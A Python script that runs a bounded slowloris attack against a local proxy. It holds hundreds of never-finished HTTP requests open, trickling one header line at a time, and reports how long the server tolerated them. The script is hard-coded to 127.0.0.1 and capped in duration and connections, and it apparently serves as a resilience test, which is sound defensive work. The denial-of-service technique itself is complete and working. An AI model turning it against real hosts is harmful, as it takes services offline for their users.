#!/usr/bin/env python3
"""A bounded slowloris against 127.0.0.1 only.

Keeps CONNECTIONS connections open to 127.0.0.1:PORT, each a request head that never ends:
the request line and a few headers, then one more header line every INTERVAL seconds, so
no read timeout between two packets ever fires. A connection the server closes is opened
again, as a real attack would. After DURATION seconds it closes everything and prints one
JSON object: how long the server let attack connections live and how many it closed.
(slowloris-check.sh probes health from a separate process meanwhile.)

It refuses any host but 127.0.0.1 and any duration over 120 s or more than 5,000
connections: it is a test of this machine's own proxy, not a tool.
"""
import argparse
import json
import selectors
import socket
import statistics
import sys
import time

HOST = "127.0.0.1"


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=600)
    parser.add_argument("--duration", type=float, default=20)
    parser.add_argument("--interval", type=float, default=1)
    args = parser.parse_args()
    if args.duration > 120 or args.connections > 5000:
        sys.exit("refused: at most 120 s and 5,000 connections")

    selector = selectors.DefaultSelector()
    opened_at = {}
    lifetimes = []
    connect_failures = 0
    opened = 0
    most_open = 0

    def open_one():
        nonlocal connect_failures, opened
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(0.5)
        try:
            sock.connect((HOST, args.port))
            sock.sendall(b"POST /payments HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n")
        except OSError:
            connect_failures += 1
            sock.close()
            return False
        sock.setblocking(False)
        selector.register(sock, selectors.EVENT_READ)
        opened_at[sock] = time.monotonic()
        opened += 1
        return True

    def closed(sock):
        lifetimes.append(time.monotonic() - opened_at.pop(sock))
        selector.unregister(sock)
        sock.close()

    deadline = time.monotonic() + args.duration
    next_trickle = time.monotonic()
    line = 0
    while time.monotonic() < deadline:
        # Top up: open what the server closed, a bounded number a round; stop the round at
        # the first connection the server does not accept, so trickling goes on.
        for _ in range(min(200, args.connections - len(opened_at))):
            if time.monotonic() >= deadline or not open_one():
                break
        most_open = max(most_open, len(opened_at))
        for key, _ in selector.select(timeout=0.1):
            sock = key.fileobj
            try:
                if not sock.recv(4096):
                    closed(sock)
                    continue
                # The server answered (408, 400): it will close; count it closed now.
                closed(sock)
            except BlockingIOError:
                pass
            except OSError:
                closed(sock)
        if time.monotonic() >= next_trickle:
            line += 1
            for sock in list(opened_at):
                try:
                    sock.send(b"X-Slow-%d: 1\r\n" % line)
                except BlockingIOError:
                    pass
                except OSError:
                    closed(sock)
            next_trickle += args.interval

    still_open = len(opened_at)
    for sock in list(opened_at):
        opened_at.pop(sock)
        sock.close()
    report = {
        "target_port": args.port,
        "connections_wanted": args.connections,
        "connections_opened": opened,
        "connect_failures": connect_failures,
        "most_open_at_once": most_open,
        "closed_by_server": len(lifetimes),
        "median_seconds_before_server_closed": round(statistics.median(lifetimes), 1) if lifetimes else None,
        "longest_seconds_before_server_closed": round(max(lifetimes), 1) if lifetimes else None,
        "still_open_at_end": still_open,
    }
    print(json.dumps(report))


if __name__ == "__main__":
    main()
